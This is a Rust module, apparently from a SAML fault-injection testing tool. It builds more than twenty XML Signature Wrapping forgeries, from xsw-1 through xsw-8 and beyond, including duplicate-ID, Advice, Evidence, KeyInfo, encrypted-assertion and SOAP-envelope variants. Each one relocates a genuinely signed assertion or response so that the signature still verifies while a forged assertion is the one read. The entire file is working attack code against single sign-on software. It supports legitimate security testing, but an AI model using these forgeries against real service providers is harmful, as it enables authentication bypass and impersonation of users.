//! Signature wrapping (Somorovsky and others, 2012; numbers as in SAML Raider): what was signed is moved to where the
//! signature is still found good, and what is read is forged.
//!
//! The forged message says what the victim's would have said. What was signed is the assertion, or the response where that
//! alone is signed: each fault then does to the response what its name says of the assertion. Where both are signed the
//! assertion is what is moved, without the response's signature, which would no longer hold; `xsw-1`, `xsw-2` and
//! `xsw-extensions-response` move the whole response.

use saml_model::names;

use super::impostor::{forged, forged_assertion};
use super::sig::{choice, one_signed, signed};
use super::tree::{Node, Tree, nothing};
use super::{Action, FaultError, Inputs, Parameters};

pub(super) const ACTIONS: &[(&str, Action)] = &[
    (
        "sig-id-duplicate-assertion",
        Action::Message(|xml, p, i| Wrapping::new(xml, p, i)?.under_one_id()?.behind_the_forged()),
    ),
    (
        "xsw-1",
        Action::Message(|xml, p, i| Wrapping::of_the_response(xml, p, i)?.inside_the_signature()),
    ),
    (
        "xsw-2",
        Action::Message(|xml, p, i| Wrapping::of_the_response(xml, p, i)?.before_the_signature()),
    ),
    (
        "xsw-3",
        Action::Message(|xml, p, i| Wrapping::new(xml, p, i)?.behind_the_forged()),
    ),
    (
        "xsw-4",
        Action::Message(|xml, p, i| Wrapping::new(xml, p, i)?.in_the_forged()),
    ),
    (
        "xsw-5",
        Action::Message(|xml, p, i| Wrapping::new(xml, p, i)?.without_its_signature_last()),
    ),
    (
        "xsw-6",
        Action::Message(|xml, p, i| Wrapping::new(xml, p, i)?.inside_the_signature()),
    ),
    ("xsw-7", Action::Message(forged_in_extensions)),
    (
        "xsw-8",
        Action::Message(|xml, p, i| Wrapping::new(xml, p, i)?.in_an_object()),
    ),
    ("xsw-advice", Action::Message(in_advice)),
    (
        "xsw-after",
        Action::Message(|xml, p, i| Wrapping::new(xml, p, i)?.before_the_forged()),
    ),
    (
        "xsw-ancestor",
        Action::Message(|xml, p, i| Wrapping::new(xml, p, i)?.under(Burial::Issuer)),
    ),
    (
        "xsw-attributevalue",
        Action::Message(|xml, p, i| Wrapping::new(xml, p, i)?.under(Burial::AttributeValue)),
    ),
    (
        "xsw-encrypted-dup-id",
        Action::Message(forged_to_be_encrypted_under_the_same_id),
    ),
    ("xsw-encrypted-first", Action::Message(forged_to_be_encrypted)),
    (
        "xsw-evidence",
        Action::Message(|xml, p, i| Wrapping::new(xml, p, i)?.in_evidence()),
    ),
    (
        "xsw-extensions-response",
        Action::Message(|xml, p, i| Wrapping::of_the_response(xml, p, i)?.in_extensions()),
    ),
    (
        "xsw-first-signature",
        Action::Message(|xml, p, i| Wrapping::new(xml, p, i)?.under(Burial::Confirmation)),
    ),
    (
        "xsw-keyinfo",
        Action::Message(|xml, p, i| Wrapping::new(xml, p, i)?.in_key_info()),
    ),
    ("xsw-second-root", Action::Message(second_root)),
    ("xsw-signaturevalue-twin", Action::Message(twin)),
    ("xsw-soap-wrapper", Action::Message(wrapped_message)),
    (
        "xsw-statusdetail",
        Action::Message(|xml, p, i| Wrapping::new(xml, p, i)?.in_status_detail()),
    ),
];

type Written = Result<String, FaultError>;

/// As `xsw-6`.
pub(super) fn genuine_in_the_signature(xml: &str, parameters: &Parameters, inputs: &Inputs<'_>) -> Written {
    Wrapping::new(xml, parameters, inputs)?.inside_the_signature()
}

/// As `xsw-8`.
pub(super) fn genuine_in_an_object(xml: &str, parameters: &Parameters, inputs: &Inputs<'_>) -> Written {
    Wrapping::new(xml, parameters, inputs)?.in_an_object()
}

/// The forged message, and what was signed.
struct Wrapping {
    /// The victim's response, unsigned.
    forged: Tree,
    /// Where the forged counterpart of what was signed is.
    counterpart: &'static [&'static str],
    /// What was signed, with its signature.
    genuine: Tree,
}

/// A place in the forged assertion.
enum Burial {
    Issuer,
    AttributeValue,
    Confirmation,
}

impl Wrapping {
    /// What was signed is the assertion where that is signed, else the response.
    fn new(xml: &str, parameters: &Parameters, inputs: &Inputs<'_>) -> Result<Self, FaultError> {
        inputs.require_plain()?;
        let mut message = Tree::read(xml)?;
        let counterpart = one_signed(&mut message)?;
        Ok(Self {
            forged: forged(parameters, inputs)?,
            counterpart,
            genuine: message.at(counterpart)?.clone(),
        })
    }

    /// What was signed is the response where that is signed; where it is not, it is the assertion.
    fn of_the_response(xml: &str, parameters: &Parameters, inputs: &Inputs<'_>) -> Result<Self, FaultError> {
        inputs.require_plain()?;
        let message = Tree::read(xml)?;
        let counterpart = signed(&message)?.pop().ok_or_else(|| nothing("Signature"))?;
        Ok(Self {
            forged: forged(parameters, inputs)?,
            counterpart,
            genuine: message.at(counterpart)?.clone(),
        })
    }

    /// What was signed, and its signature apart.
    fn apart(&self) -> Result<(Tree, Tree), FaultError> {
        let mut genuine = self.genuine.clone();
        let signature = genuine.take("Signature")?;
        Ok((genuine, signature))
    }

    /// The message whose forged counterpart has this signature.
    fn with_signature(mut self, signature: Tree) -> Written {
        let counterpart = self.forged.at_mut(self.counterpart)?;
        let place = counterpart.place("Issuer")? + 1;
        counterpart.insert(place, signature);
        Ok(self.forged.write())
    }

    /// The forged counterpart has the ID of what was signed.
    fn under_one_id(mut self) -> Result<Self, FaultError> {
        let id = self.genuine.attribute("ID").unwrap_or_default().to_owned();
        self.forged.at_mut(self.counterpart)?.set("ID", &id);
        Ok(self)
    }

    fn inside_the_signature(self) -> Written {
        let (genuine, signature) = self.apart()?;
        self.with_signature(signature.around(genuine))
    }

    fn in_an_object(self) -> Written {
        let (genuine, signature) = self.apart()?;
        self.with_signature(signature.around(Tree::new("Object").around(genuine)))
    }

    fn in_key_info(self) -> Written {
        let (genuine, mut signature) = self.apart()?;
        *signature.at_mut(&["KeyInfo"])? = Tree::new("KeyInfo").around(genuine);
        self.with_signature(signature)
    }

    fn before_the_signature(mut self) -> Written {
        let (genuine, signature) = self.apart()?;
        let counterpart = self.forged.at_mut(self.counterpart)?;
        let place = counterpart.place("Issuer")? + 1;
        counterpart.insert(place, genuine);
        counterpart.insert(place + 1, signature);
        Ok(self.forged.write())
    }

    fn without_its_signature_last(mut self) -> Written {
        let (genuine, signature) = self.apart()?;
        self.forged.children.push(genuine.into());
        self.with_signature(signature)
    }

    fn behind_the_forged(mut self) -> Written {
        self.forged.children.push(self.genuine.into());
        Ok(self.forged.write())
    }

    fn before_the_forged(mut self) -> Written {
        let place = self.forged.place("Assertion")?;
        self.forged.insert(place, self.genuine);
        Ok(self.forged.write())
    }

    fn in_the_forged(mut self) -> Written {
        let assertion = self.forged.at_mut(&["Assertion"])?;
        assertion.children.push(self.genuine.into());
        Ok(self.forged.write())
    }

    fn in_extensions(mut self) -> Written {
        let place = self.forged.place("Status")?;
        self.forged
            .insert(place, Tree::new("samlp:Extensions").around(self.genuine));
        Ok(self.forged.write())
    }

    fn in_status_detail(mut self) -> Written {
        let status = self.forged.at_mut(&["Status"])?;
        status
            .children
            .push(Tree::new("samlp:StatusDetail").around(self.genuine).into());
        Ok(self.forged.write())
    }

    fn in_evidence(mut self) -> Written {
        let action = Tree::new("Action")
            .with("Namespace", "urn:oasis:names:tc:SAML:1.0:action:rwedc")
            .around("Read");
        let statement = Tree::new("AuthzDecisionStatement")
            .with("Resource", "https://other-sp.test/")
            .with("Decision", "Permit")
            .around(action)
            .around(Tree::new("Evidence").around(self.genuine));
        let assertion = self.forged.at_mut(&["Assertion"])?;
        assertion.children.push(statement.into());
        Ok(self.forged.write())
    }

    fn under(mut self, burial: Burial) -> Written {
        let assertion = self.forged.at_mut(&["Assertion"])?;
        let around = match burial {
            Burial::Issuer => assertion.at_mut(&["Issuer"])?,
            Burial::AttributeValue => {
                assertion.at_mut(&["AttributeStatement", "Attribute", "AttributeValue"])?
            }
            Burial::Confirmation => {
                assertion.at_mut(&["Subject", "SubjectConfirmation", "SubjectConfirmationData"])?
            }
        };
        around.children.push(self.genuine.into());
        Ok(self.forged.write())
    }
}

/// The genuine message with the forged assertion parked under the ID of the genuine one. A response that is signed itself
/// is parked instead, in a forged one with its ID.
fn forged_in_extensions(xml: &str, parameters: &Parameters, inputs: &Inputs<'_>) -> Written {
    let mut wrapping = Wrapping::new(xml, parameters, inputs)?.under_one_id()?;
    if wrapping.counterpart.is_empty() {
        return wrapping.in_extensions();
    }
    let mut message = Tree::read(xml)?;
    one_signed(&mut message)?;
    let place = message.place("Status")?;
    let parked = wrapping.forged.take("Assertion")?;
    message.insert(place, Tree::new("samlp:Extensions").around(parked));
    Ok(message.write())
}

fn in_advice(xml: &str, parameters: &Parameters, inputs: &Inputs<'_>) -> Written {
    let genuine_is_parked = choice(parameters, "parked", &[("genuine", true), ("forged", false)])?;
    let mut wrapping = Wrapping::new(xml, parameters, inputs)?;
    if genuine_is_parked {
        let assertion = wrapping.forged.at_mut(&["Assertion"])?;
        let place = assertion.place("Conditions")? + 1;
        assertion.insert(place, Tree::new("Advice").around(wrapping.genuine));
        return Ok(wrapping.forged.write());
    }
    // It is in what is signed, so that the signature no longer holds: nobody may make up for that.
    let mut message = Tree::read(xml)?;
    one_signed(&mut message)?;
    let assertion = message.at_mut(&["Assertion"])?;
    let place = assertion.place("Conditions")? + 1;
    assertion.insert(
        place,
        Tree::new("Advice").around(wrapping.forged.take("Assertion")?),
    );
    Ok(message.write())
}

/// The signature twice; readers that take every signature with its value away do not see what is in the second.
fn twin(xml: &str, parameters: &Parameters, inputs: &Inputs<'_>) -> Written {
    inputs.require_plain()?;
    let mut message = Tree::read(xml)?;
    let path = one_signed(&mut message)?;
    let forged = forged_assertion(parameters, inputs)?;
    let signed = message.at_mut(path)?;
    let place = signed.place("Signature")?;
    let twin = signed.at(&["Signature"])?.clone();
    signed.insert(place + 1, twin.around(Tree::new("Object").around(forged)));
    Ok(message.write())
}

fn second_root(xml: &str, parameters: &Parameters, inputs: &Inputs<'_>) -> Written {
    inputs.require_plain()?;
    Ok(format!("{xml}{}", forged(parameters, inputs)?.write()))
}

/// The genuine message, in an envelope that the binding does not have.
fn wrapped_message(xml: &str, parameters: &Parameters, _: &Inputs<'_>) -> Written {
    let is_soap = choice(
        parameters,
        "root",
        &[("soap", true), ("artifact-response", false)],
    )?;
    let message = Node::Tree(Tree::read(xml)?);
    let envelope = if is_soap {
        Tree::new("soap:Envelope")
            .with("xmlns:soap", "http://schemas.xmlsoap.org/soap/envelope/")
            .around(Tree::new("soap:Body").around(message))
    } else {
        let status = format!(
            "<samlp:Status><samlp:StatusCode Value=\"{}\"/></samlp:Status>",
            names::STATUS_SUCCESS
        );
        let Node::Tree(response) = &message else {
            return Err(FaultError::Unreadable);
        };
        let issue_instant = response.attribute("IssueInstant").unwrap_or_default().to_owned();
        Tree::new("samlp:ArtifactResponse")
            .with("xmlns:samlp", names::NS_PROTOCOL)
            .with("ID", "_artifact-response")
            .with("Version", names::VERSION)
            .with("IssueInstant", &issue_instant)
            .around(status)
            .around(message)
    };
    Ok(envelope.write())
}

/// What comes first is encrypted on its way: anybody has the key for that. The genuine assertion stays in plain text.
fn forged_to_be_encrypted(xml: &str, parameters: &Parameters, inputs: &Inputs<'_>) -> Written {
    let (mut message, forged) = encrypted_pair("xsw-encrypted-first", xml, parameters, inputs)?;
    let place = message.place("Assertion")?;
    message.insert(place, forged);
    Ok(message.write())
}

fn forged_to_be_encrypted_under_the_same_id(
    xml: &str,
    parameters: &Parameters,
    inputs: &Inputs<'_>,
) -> Written {
    let (mut message, mut forged) = encrypted_pair("xsw-encrypted-dup-id", xml, parameters, inputs)?;
    let place = message.place("Assertion")?;
    let id = message
        .at(&["Assertion"])?
        .attribute("ID")
        .unwrap_or_default()
        .to_owned();
    forged.set("ID", &id);
    message.insert(place, forged);
    Ok(message.write())
}

fn encrypted_pair(
    id: &'static str,
    xml: &str,
    parameters: &Parameters,
    inputs: &Inputs<'_>,
) -> Result<(Tree, Tree), FaultError> {
    if !inputs.is_encrypted {
        return Err(FaultError::NotEncrypted { id });
    }
    let mut message = Tree::read(xml)?;
    if one_signed(&mut message)?.is_empty() {
        return Err(FaultError::NotSignedThere {
            unsigned: "Assertion",
        });
    }
    Ok((message, forged_assertion(parameters, inputs)?))
}
